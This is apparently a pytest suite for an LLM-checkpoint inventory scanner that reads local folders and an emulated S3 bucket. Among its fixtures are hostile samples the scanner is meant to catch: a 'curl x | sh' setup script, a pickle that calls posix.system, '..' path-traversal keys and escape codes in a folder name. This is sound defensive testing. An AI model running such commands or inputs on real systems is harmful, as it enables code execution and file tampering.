"""The inventory: one row per checkpoint under local folders and s3:// prefixes (moto's
S3 server on 127.0.0.1, tests/s3_moto.py), the same row from either, resumable --out files, and
hostile listings (many keys, `..` in keys, control characters in names, objects that
change between listing and reading) as rows or lines, never a crash."""

import csv
import dataclasses
import json
import os
import shutil
import sys
import tracemalloc

import pytest

import checkpoints
from s3_moto import MotoS3, point_clients_at

from llm_anatomy import api
from llm_anatomy.analysis import inventory as inv
from llm_anatomy.cli.main import main
from llm_anatomy.hub import s3


@pytest.fixture(scope="module")
def tree(tmp_path_factory, llama_dir, llama_tied_dir):
    """models/{sharded,single,gguf/tiny.Q8_0.gguf} plus files that are no checkpoint."""
    root = tmp_path_factory.mktemp("tree") / "models"
    shutil.copytree(llama_dir, root / "sharded")
    shutil.copytree(llama_tied_dir, root / "single")
    (root / "single" / "README.md").write_text("---\nlicense: apache-2.0\ntags: [x]\n---\n# tiny\n")
    (root / "gguf").mkdir()
    checkpoints.llama_gguf(str(llama_tied_dir), str(root / "gguf" / "tiny.Q8_0.gguf"))
    (root / "notes").mkdir()
    (root / "notes" / "todo.txt").write_text("nothing here")
    return root


@pytest.fixture(scope="module")
def server(tree):
    with MotoS3() as standin:
        for folder, _, files in os.walk(tree):
            for name in files:
                path = os.path.join(folder, name)
                with open(path, "rb") as handle:
                    standin.put("models", "team/" + os.path.relpath(path, tree.parent), handle.read())
        standin.bucket("locked")
        standin.key = standin.reader(denied=("locked",))
        yield standin


@pytest.fixture
def store(server, monkeypatch):
    return point_clients_at(server, monkeypatch)


def facts(row):
    """A row without where it was found (location, content key)."""
    return {k: v for k, v in dataclasses.asdict(row).items() if k not in ("location", "content")}


def test_local_rows(tree, monkeypatch, capsys):
    monkeypatch.chdir(tree.parent)
    assert main(["scan", "models"]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert out.splitlines() == [
        "location                    format       architecture      params  dtypes                                       weights  KV/1k tokens  findings",
        "models/gguf/tiny.Q8_0.gguf  gguf         llama             69.95K  F32:59% Q4_0:18% F16:12% Q8_0:9% BF16:3%  194.38 KiB    512.00 KiB  0",
        "models/sharded              safetensors  LlamaForCausalLM  78.14K  F32:100%                                  305.25 KiB    512.00 KiB  0",
        "models/single               safetensors  LlamaForCausalLM  69.95K  F32:100%                                  273.25 KiB    512.00 KiB  0",
        "3 checkpoints, 0 unreadable",
    ]


def test_a_row_holds_what_summary_says(tree):
    rows = {r.location: r for r in api.inventory([str(tree)]).rows}
    single = rows[str(tree / "single")]
    with open(tree / "single" / "config.json", "rb") as handle:
        config = json.loads(handle.read())
    canonical = json.dumps(config, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    import hashlib

    assert dataclasses.asdict(single) == {
        "location": str(tree / "single"),
        "content": single.content,
        "format": "safetensors",
        "architecture": "LlamaForCausalLM",
        "parameters": 69952,  # tied: the embedding counted once
        "active_parameters": None,
        "bytes": 279808,
        "dtypes": "F32:100%",
        "quantization": None,
        "bits_per_weight": 32.0,
        "weights_memory": 279808,
        "kv_cache_per_1k_tokens": 2 * 2 * 2 * 16 * 4 * 1024,  # layers x K,V x kv heads x head_dim x fp32
        "context_length": 256,
        "config_sha256": hashlib.sha256(canonical).hexdigest(),
        "tokenizer_sha256": None,
        "license": "apache-2.0",
        "error": None,
        "findings": "0",
        "sha256": None,  # --deep's columns (test_inventory_deep.py)
        "nan_values": None,
        "inf_values": None,
        "absmax": None,
    }


def test_gguf_row_names_its_block_quantization(tree):
    row = api.inventory([str(tree / "gguf")]).rows[0]
    assert (row.format, row.quantization, row.dtypes) == ("gguf", "Q4_0", "F32:59% Q4_0:18% F16:12% Q8_0:9% BF16:3%")
    assert row.bits_per_weight == round(8 * row.bytes / row.parameters, 3)


def test_s3_rows_equal_local_rows(tree, store):
    local = {os.path.relpath(r.location, tree.parent): facts(r) for r in api.inventory([str(tree)]).rows}
    remote = {r.location.removeprefix("s3://models/team/"): facts(r) for r in api.inventory(["s3://models/team/"]).rows}
    assert remote == local
    assert len(remote) == 3


def test_s3_findings_from_headers_and_names(tree, server, store):
    """An s3:// row's findings: the config's auto_map and the .py file by its name, from what
    the row read and the listing; a pickle beside the weights is not read, and the row says so."""
    config = json.loads((tree / "single" / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_custom.CustomForCausalLM"}
    files = {
        "config.json": json.dumps(config).encode(),
        "model.safetensors": (tree / "single" / "model.safetensors").read_bytes(),
        "modeling_custom.py": b"import os\n",
        "training_args.bin": b"\x80\x02}q\x00.",
    }
    for name, data in files.items():
        server.put("models", f"custom/{name}", data)
    before = store.count()
    rows = api.inventory(["s3://models/custom/"]).rows
    assert [(r.location, r.findings, r.error) for r in rows] == [
        ("s3://models/custom", "high:1 medium:1 (pickles not read)", None)
    ]
    assert store.count() - before == 3  # the listing, config.json, the header: nothing more for the findings


def test_mixed_inputs_and_requests_per_checkpoint(tree, store):
    before = store.count()
    rows = api.inventory([str(tree / "single"), "s3://models/team/models/single"]).rows
    assert [facts(r) for r in rows][0] == facts(rows[1])
    # one listing page, then config.json, the header, README.md (license) for the folder
    assert store.count() - before == 4


def test_resume_jsonl(tree, tmp_path, capsys):
    out = tmp_path / "inventory.jsonl"
    assert main(["scan", str(tree), "--out", str(out)]) == 0
    first = out.read_text()
    assert [json.loads(line)["location"] for line in first.splitlines()] != []
    capsys.readouterr()
    assert main(["scan", str(tree), "--out", str(out)]) == 0
    assert capsys.readouterr() == (
        "0 checkpoints, 0 unreadable\n",
        f"llm-anatomy: note: 3 checkpoints already in {out} for the same content skipped\n",
    )
    assert out.read_text() == first
    os.utime(tree / "single" / "model.safetensors", ns=(1, 1))  # changed content: read again
    assert [r.location for r in api.inventory([str(tree)], out).rows] == [str(tree / "single")]


def test_resume_csv(tree, tmp_path):
    out = tmp_path / "inventory.csv"
    api.inventory([str(tree)], out)
    with open(out, newline="") as handle:
        records = list(csv.DictReader(handle))
    assert [r["location"] for r in sorted(records, key=lambda r: r["location"])] == [
        str(tree / n) for n in ("gguf/tiny.Q8_0.gguf", "sharded", "single")
    ]
    assert list(records[0]) == list(inv.COLUMNS)
    assert api.inventory([str(tree)], out) == api.Inventory([], 3)


def test_resume_parquet(tree, tmp_path):
    import pyarrow.parquet

    out = tmp_path / "inventory.parquet"
    first = api.inventory([str(tree / "single")], out).rows
    assert api.inventory([str(tree)], out) == api.Inventory(
        [r for r in api.inventory([str(tree)]).rows if r.location != str(tree / "single")], 1
    )
    table = pyarrow.parquet.read_table(out)
    assert table.column_names == list(inv.COLUMNS)
    assert sorted(r["location"] for r in table.to_pylist()) == [
        str(tree / n) for n in ("gguf/tiny.Q8_0.gguf", "sharded", "single")
    ]
    assert [r for r in table.to_pylist() if r["location"] == str(tree / "single")] == [dataclasses.asdict(first[0])]
    assert os.listdir(tmp_path) == ["inventory.parquet"]


def test_parquet_needs_its_extra(tree, tmp_path, monkeypatch, capsys):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # find_spec: not installed
    out = tmp_path / "rows.parquet"
    assert main(["scan", str(tree), "--out", str(out)]) == 1
    assert capsys.readouterr() == (
        "",
        f"llm-anatomy: {out}: expected pyarrow to write Parquet, found pyarrow is not installed; pip install 'llm-anatomy[parquet]'\n",
    )


def test_json_lines_on_stdout(tree, capsys):
    models = [str(tree / "single"), str(tree / "gguf")]
    assert main(["scan", *models, "--json"]) == 0
    out, err = capsys.readouterr()
    assert [dataclasses.asdict(row) for row in api.inventory(models).rows] == [
        json.loads(line) for line in out.splitlines()
    ]
    assert err == ""


def test_one_checkpoint_is_scanned_as_before(tree, capsys):
    """One MODEL that is one checkpoint: scan's own report, not a row."""
    assert main(["scan", str(tree / "single")]) == 0
    assert (
        capsys.readouterr().out == "no findings in what was inspected (2 files); 2 files skipped (--json lists them)\n"
    )


def test_a_model_folder_with_more_weights_inside_is_one_model(tree, tmp_path, capsys):
    """A model folder that keeps other weights in a subfolder (Meta's original/) is scanned
    as one model; a folder of models is an inventory."""
    shutil.copytree(tree / "single", tmp_path / "model")
    shutil.copytree(tree / "single", tmp_path / "model" / "original")
    assert main(["scan", str(tmp_path / "model")]) == 0
    assert (
        capsys.readouterr().out == "no findings in what was inspected (4 files); 4 files skipped (--json lists them)\n"
    )
    assert main(["scan", str(tmp_path)]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "2 checkpoints, 0 unreadable"


def test_nested_checkpoints_are_counted_once(tree, tmp_path):
    """A folder that holds a checkpoint and subfolders with checkpoints of their own: each
    file counts in one row only (the parent's findings leave out its nested checkpoints')."""
    from docs_examples import _evil_bin

    shutil.copytree(tree / "single", tmp_path / "parent")
    shutil.copytree(tree / "single", tmp_path / "parent" / "nested")
    _evil_bin(str(tmp_path / "parent" / "nested" / "extra.bin"))  # a pickle calling posix.system
    (tmp_path / "parent" / "tokenizer").mkdir()  # no checkpoint: the parent's
    (tmp_path / "parent" / "tokenizer" / "setup.sh").write_text("curl x | sh\n")
    rows = {os.path.relpath(r.location, tmp_path): r for r in api.inventory([str(tmp_path / "parent")]).rows}
    assert {k: (r.parameters, r.findings) for k, r in rows.items()} == {
        "parent": (69952, "high:1"),  # tokenizer/setup.sh, and not nested/extra.bin
        os.path.join("parent", "nested"): (69952, "critical:1"),
    }


def test_sarif_is_for_one_model(tree, capsys):
    assert main(["scan", str(tree), "--sarif"]) == 2
    assert capsys.readouterr() == (
        "",
        "llm-anatomy: --sarif: expected one model, found an inventory of several; scan each model with --sarif, or pass --json\n",
    )


def test_findings_counted_by_severity(tree, tmp_path, capsys):
    """Each row counts scan's findings on its checkpoint; the exit status is scan's, over all rows."""
    root = tmp_path / "models"
    shutil.copytree(tree / "single", root / "plain")
    shutil.copytree(tree / "single", root / "custom")
    config = json.loads((root / "custom" / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_custom.CustomForCausalLM"}
    (root / "custom" / "config.json").write_text(json.dumps(config))
    (root / "custom" / "modeling_custom.py").write_text("import os\n")
    assert main(["scan", str(root), "--json"]) == 4  # a high finding, at --fail-on high
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(os.path.basename(r["location"]), r["findings"]) for r in rows] == [
        ("custom", "high:1 medium:1"),
        ("plain", "0"),
    ]
    assert main(["scan", str(root), "--fail-on", "critical"]) == 0


def test_workers_at_least_one(tree, capsys):
    assert main(["scan", str(tree), "--workers", "0"]) == 2
    assert capsys.readouterr() == ("", "llm-anatomy: --workers: expected at least 1, found 0; pass --workers 16\n")


def test_out_of_another_kind_is_a_usage_error(tree, capsys):
    assert main(["scan", str(tree), "--out", "rows.txt"]) == 2
    assert (
        capsys.readouterr().err
        == "llm-anatomy: rows.txt: expected an output file ending in .jsonl, .csv or .parquet, found another name; name it FILE.jsonl, FILE.csv or FILE.parquet\n"
    )


def test_object_changed_between_listing_and_reading(tree, server, store):
    """The listing's ETag goes with each read: a replaced header (uploaded again through
    boto3 between the listing and the reading) is an error row."""
    targets = list(inv.list_s3("s3://models/team/models/single", s3.store("s3://models")))
    key = "team/models/single/model.safetensors"
    original = server.get("models", key)
    client = server.client(key=server.key)
    client.put_object(Bucket="models", Key=key, Body=original[:-4] + b"\0\0\0\0")
    try:
        rows = [inv.row_of(t, s3.store) for t in targets]
    finally:
        client.put_object(Bucket="models", Key=key, Body=original)
    assert [(r.location, r.error, r.parameters) for r in rows] == [
        (
            "s3://models/team/models/single",
            f"s3://models/{key}: expected an object store's answer, found an object changed since it was listed; run again once the upload is finished",
            None,
        )
    ]


def test_control_characters_escaped(tree, tmp_path, monkeypatch):
    """A folder name with control characters is escaped in every output, and nothing is
    written beside the models."""
    evil = tmp_path / "evil\x1b[31mname"
    shutil.copytree(tree / "single", evil)
    out = tmp_path / "rows.jsonl"
    rows = api.inventory([str(evil)], out).rows
    assert [(r.location, r.parameters, r.error) for r in rows] == [(str(tmp_path / "evil\\x1b[31mname"), 69952, None)]
    assert "\x1b" not in out.read_text()
    assert sorted(os.listdir(tmp_path)) == sorted([evil.name, "rows.jsonl"])


def test_dot_dot_keys(tree, server, store, tmp_path, monkeypatch, capsys):
    """`..` in a key is never a local path: obstore refuses such a key, in a listing too,
    and that is one line naming the prefix."""
    server.put("hostile", "a/../../single/model.safetensors", b"\0" * 16)
    monkeypatch.chdir(tmp_path)
    assert main(["scan", "s3://hostile/"]) == 1
    assert capsys.readouterr() == (
        "",
        "llm-anatomy: s3://hostile/: expected an object store's answer, found a key with an empty, '.' or '..' path segment; read the models under another prefix, or rename the key\n",
    )
    assert main(["params", "s3://hostile/a/../../single/model.safetensors"]) == 1
    assert (
        capsys.readouterr().err
        == "llm-anatomy: s3://hostile/a/../../single/model.safetensors: expected an object store's answer, found a key with an empty, '.' or '..' path segment; read the models under another prefix, or rename the key\n"
    )
    assert os.listdir(tmp_path) == []


def test_links_inside_the_root_count_and_links_out_do_not(tree, tmp_path):
    """A Hugging Face cache's snapshot links into its blobs (inside: read); a link to a model
    elsewhere on the machine is not followed."""
    root = tmp_path / "cache"
    (root / "blobs").mkdir(parents=True)
    (root / "snapshots" / "abc").mkdir(parents=True)
    for name in ("config.json", "model.safetensors"):
        shutil.copy(tree / "single" / name, root / "blobs" / name)
        os.symlink(root / "blobs" / name, root / "snapshots" / "abc" / name)
    (root / "outside").mkdir()
    os.symlink(tree / "sharded" / "model.safetensors.index.json", root / "outside" / "model.safetensors.index.json")
    os.symlink(tree / "sharded", root / "linked-folder")
    rows = api.inventory([str(root)]).rows
    assert [(r.location, r.parameters, r.error) for r in rows] == [
        (str(root / "blobs"), 69952, None),
        (str(root / "snapshots" / "abc"), 69952, None),
    ]


@pytest.mark.slow  # 6,000 objects put into moto's backend
def test_many_keys_streamed_in_bounded_memory(store):
    """5,000 keys that hold no checkpoint, listed in pages and let go folder by folder: the
    peak is that of one page (1,000 keys), not of the listing. (tracemalloc also sees moto,
    in this process, building each page's answer: hence one page against five, after a first
    run that pays for the imports.)"""
    peaks = {}
    for count in (1000, 1000, 5000):
        if f"many{count}" not in store.backend.buckets:
            for i in range(count):
                store.put(f"many{count}", f"junk/{i:05d}/notes.txt", b"x")
        before = store.count()
        tracemalloc.start()
        try:
            rows = api.inventory([f"s3://many{count}/"]).rows
            peaks[count] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert rows == []
        assert store.count() - before == count // 1000  # pages of 1,000 keys
    assert peaks[5000] < peaks[1000] * 1.5  # measured 1.17; the listing held whole would grow with the keys


def test_credentials_never_in_output(store, tmp_path, capsys):
    out = tmp_path / "rows.jsonl"
    assert main(["scan", "s3://locked/x", "--out", str(out)]) == 1
    captured = capsys.readouterr()
    assert (
        captured.err
        == "llm-anatomy: s3://locked/x: expected an object store's answer, found access denied; check the credentials' permissions on the bucket\n"
    )
    for text in (captured.out, captured.err, out.read_text()):
        assert store.key[1] not in text and store.key[0] not in text
